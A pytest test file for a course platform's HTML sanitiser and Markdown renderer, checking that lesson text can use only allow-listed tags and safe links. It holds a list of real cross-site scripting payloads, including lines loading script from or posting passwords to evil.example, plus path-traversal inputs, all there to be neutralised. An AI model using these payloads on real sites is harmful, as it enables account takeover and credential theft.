"""Text of lessons: what can be written, and that nothing written can run or reach out."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from courses.richtext import (
    ATTRIBUTES,
    CLASSES,
    OWN_FILE,
    TAGS,
    UnknownPicture,
    render_markdown,
    sanitise,
    tidy,
)

FILE = "/files/11111111-2222-3333-4444-555555555555/scheme.svg"


def resolve(source: str) -> tuple[str, int | None, int | None] | None:
    return (FILE, 480, 240) if source == "figures/scheme.svg" else None


def rendered(body: str) -> str:
    return render_markdown(body, resolve)


class Inspector(HTMLParser):
    """Fails on anything but the allow-list."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS, tag
        for name, value in attrs:
            value = value or ""
            if name == "class":
                assert set(value.split()) <= CLASSES.get(tag, set()), (tag, value)
                continue
            if name == "rel":
                assert value == "noopener noreferrer"
                continue
            assert name in ATTRIBUTES.get(tag, set()), (tag, name)
            if name == "src":
                assert OWN_FILE.fullmatch(value), value
            if name == "href":
                scheme = re.match(r"[\s\x00-\x20]*([a-zA-Z][\w+.\x00-\x20-]*):", value)
                assert not scheme or scheme[1].lower() in {"http", "https", "mailto"}, value

    def unexpected(self, data: str) -> None:
        raise AssertionError(data)

    handle_comment = handle_decl = handle_pi = unknown_decl = unexpected


def assert_harmless(html: str) -> None:
    inspector = Inspector(convert_charrefs=True)
    inspector.feed(html)
    inspector.close()
    assert "<script" not in html.lower()
    assert not re.search(r"<[^>]*\son\w+\s*=", re.sub(r'"[^"]*"', '""', html), re.IGNORECASE)


# What can be written


@pytest.mark.parametrize(
    ("body", "html"),
    [
        ("## Розділ\n\n### Підрозділ", "<h2>Розділ</h2>\n<h3>Підрозділ</h3>"),
        ("**Важливе** й *так*", "<p><strong>Важливе</strong> й <em>так</em></p>"),
        ("- один\n- два", "<ul>\n<li>один</li>\n<li>два</li>\n</ul>"),
        ("3. третій", '<ol start="3">\n<li>третій</li>\n</ol>'),
        ("> цитата", "<blockquote>\n<p>цитата</p>\n</blockquote>"),
        ("`A < B`", "<p><code>A &lt; B</code></p>"),
        ("---", "<hr>"),
        (
            "[сайт](https://example.org/a?b=c&d)",
            '<p><a href="https://example.org/a?b=c&amp;d" rel="noopener noreferrer">сайт</a></p>',
        ),
        ("п’ять, ґ, ў, ё", "<p>п’ять, ґ, ў, ё</p>"),
        ("рядок  \nдругий", "<p>рядок<br>\nдругий</p>"),
    ],
)  # fmt: skip
def test_markdown(body: str, html: str) -> None:
    assert rendered(body).strip() == html


def test_a_table_scrolls_by_itself() -> None:
    html = rendered("| Поле | Знаки |\n|:---|---:|\n| Номер | 9 |\n\nДалі")
    assert html.startswith('<div class="scroll" tabindex="0"><table class="table">\n<thead>')
    assert "<th>Поле</th>" in html
    assert "<td>9</td>" in html
    assert "style" not in html
    assert html.strip().endswith("</table></div>\n<p>Далі</p>")


@pytest.mark.parametrize(
    ("name", "classes"), [("note", "note"), ("due", "note due"), ("late", "note late")]
)
def test_notes(name: str, classes: str) -> None:
    html = rendered(f"До\n\n:::{name}\nУвага: **так**\n\n- раз\n:::\n\nПісля")
    assert f'<div class="{classes}">\n<p>Увага: <strong>так</strong></p>\n<ul>' in html
    assert html.count("<div") == html.count("</div>") == 1


def test_a_check_opens_its_answer_in_place() -> None:
    html = rendered(":::check Що **тут** за `V<`?\nВіза.\n\n- раз\n:::\n\nПісля")
    assert html.startswith(
        '<details class="check"><summary>Що <strong>тут</strong> за <code>V&lt;</code>?</summary>'
        "\n<p>Віза.</p>\n<ul>"
    )
    assert html.strip().endswith("</details>\n<p>Після</p>")
    assert tidy(html) == html.strip()


def test_a_term_of_the_glossary_is_a_link_on_the_page() -> None:
    html = rendered(
        "[зона](term:machine-readable-zone)\n\n:::check [лупа](term:magnifier)?\nТак.\n:::"
    )
    assert '<a href="#term-machine-readable-zone" rel="noopener noreferrer">зона</a>' in html
    assert (
        '<summary><a href="#term-magnifier" rel="noopener noreferrer">лупа</a>?</summary>' in html
    )


def test_a_machine_readable_zone() -> None:
    html = rendered("```mrz\nL898902C3[6]UTO7408122F1204159ZE184226B<<<<<1{0}\nP<UTO&\n```")
    assert html.strip() == (
        '<pre class="mrz"><code>L898902C3<b>6</b>UTO7408122F1204159ZE184226B&lt;&lt;&lt;&lt;&lt;1'
        "<i>0</i>\nP&lt;UTO&amp;</code></pre>"
    )


def test_other_fences_are_code() -> None:
    assert rendered("```\n<b>[6]</b>\n```").strip() == (
        "<pre><code>&lt;b&gt;[6]&lt;/b&gt;\n</code></pre>"
    )


def test_a_figure() -> None:
    html = rendered('До\n\n![Рядки "А" і <Б>](figures/scheme.svg "Малюнок 1 & 2")\n\nПісля')
    figure = re.search(r"<figure.*</figure>", html)
    assert figure
    assert figure[0] == (
        f'<figure class="drawing"><img src="{FILE}" alt="Рядки &quot;А&quot; і &lt;Б&gt;"'
        ' width="480" height="240" loading="lazy"><figcaption>Малюнок 1 &amp; 2</figcaption>'
        "</figure>"
    )
    assert html.index("До") < html.index("<figure") < html.index("Після")


def test_a_figure_in_a_note_without_a_caption() -> None:
    html = rendered(":::note\n![Схема](figures/scheme.svg)\n:::")
    assert '<div class="note">\n<figure class="drawing">' in html
    assert "figcaption" not in html


def test_a_picture_in_a_line_of_text() -> None:
    html = rendered("Знак ![стрілка](figures/scheme.svg) веде далі")
    assert f'<p>Знак <img src="{FILE}" alt="стрілка"> веде далі</p>' in html


@pytest.mark.parametrize(
    "body",
    ["![x](figures/none.svg)", "![x](https://evil.example/x.png)", "![x](data:image/png;base64,AA)",
     "![x](../../etc/passwd)", "Слова ![x](figures/none.svg) у рядку"],
)  # fmt: skip
def test_a_picture_that_is_not_there_is_an_error(body: str) -> None:
    with pytest.raises(UnknownPicture):
        rendered(body)


# What must not get through

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='/files/11111111-2222-3333-4444-555555555555/a.svg' onload=alert(1)>",
    "<img/src=x/onerror=alert(1)//",
    "<p onclick='alert(1)'>x</p>",
    "<p onclick\n=\nalert(1)>x</p>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='  jAvAsCrIpT:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img src='https://evil.example/pixel.gif'>",
    "<img src='//evil.example/pixel.gif'>",
    "<img src='/account/'>",
    "<img srcset='https://evil.example/x 1x'>",
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><foreignObject><iframe src=x></foreignObject></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math href='javascript:alert(1)'>x</math>",
    "<style>body{display:none}</style>",
    "<p style='background:url(https://evil.example)'>x</p>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--<img src='--><img src=x onerror=alert(1)>'>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<?xml-stylesheet href='x'?>",
    "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='x'></object><embed src='x'>",
    "<form action='https://evil.example'><input name=password><button>x</button></form>",
    "<video src=x onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>x</details>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script>",
    "<title><script>alert(1)</script></title>",
    "<plaintext><script>alert(1)</script>",
    "<div class='note card head'>x</div>",
    "<p id=attempt name=attempt data-save='/x' is=x slot=x>x</p>",
    "<a href='https://example.org' target=_blank ping='https://evil.example' download>x</a>",
    "<x-y onfocus=alert(1) autofocus tabindex=1>x</x-y>",
    "<p\x00 onclick=alert(1)>x",
    "<<p>script>alert(1)<</p>/script>",
]


@pytest.mark.parametrize("html", HOSTILE)
def test_hostile_html_becomes_harmless(html: str) -> None:
    assert_harmless(sanitise(f"<p>До</p>{html}<p>Після</p>"))
    assert_harmless(sanitise(html))
    assert_harmless(rendered(html))
    assert_harmless(rendered(f":::note\n{html}\n:::"))
    assert_harmless(rendered(f"```mrz\n{html}\n```"))


@pytest.mark.parametrize(
    "html",
    ["<script>x</script>", "<style>x</style>", "<svg><script>x</script></svg>"],
)
def test_what_a_script_or_style_holds_is_not_shown_either(html: str) -> None:
    assert "x" not in sanitise(html)


def test_the_attributes_of_a_figure_cannot_be_broken_out_of() -> None:
    def resolve_oddly(_source: str) -> tuple[str, None, None]:
        return FILE, None, None

    html = render_markdown('![" onerror="alert(1)](x "<script>alert(1)</script>")', resolve_oddly)
    assert_harmless(html)
    assert 'alt="&quot; onerror=&quot;alert(1)"' in html


@pytest.mark.parametrize(
    "address",
    ["javascript:alert(1)", "JAVASCRIPT:alert(1)", "vbscript:x", "data:text/html,x", "file:///x"],
)
def test_links_of_markdown_are_no_way_round(address: str) -> None:
    assert_harmless(rendered(f"[x]({address}) <{address}>"))


PIECES = st.sampled_from(
    ["<", ">", "</", "/>", '"', "'", "=", " ", "\n", "&", "&lt;", "&#x3c;", "<!--", "-->",
     "<![CDATA[", "]]>", "script", "style", "svg", "math", "img", "a", "p", "table", "td",
     "onerror", "onload", " onclick=x", " href=", " src=", "javascript:", "data:", "x", "ґ",
     "\0", "`", "[", "](", ")", ":::note\n", ":::\n", "```mrz\n", "```\n", "|", "- ", "{0}",
     "\u2028"]
)  # fmt: skip
MARKUP = st.lists(PIECES | st.text(max_size=3), max_size=30).map("".join)


@given(MARKUP)
def test_sanitising_twice_is_sanitising_once(html: str) -> None:
    once = sanitise(html)
    assert sanitise(once) == once
    assert_harmless(once)


@given(MARKUP)
def test_no_markdown_is_harmful(body: str) -> None:
    try:
        html = rendered(body)
    except UnknownPicture:
        return
    assert_harmless(html)
    assert sanitise(html) == html


def test_a_link_without_an_address_is_text() -> None:
    assert tidy('<p>a <a href="javascript:x()">b <b>c</b></a> d</p>') == "<p>a b <b>c</b> d</p>"
    kept = tidy('<p><a href="https://example.org">b</a></p>')
    assert 'href="https://example.org"' in kept
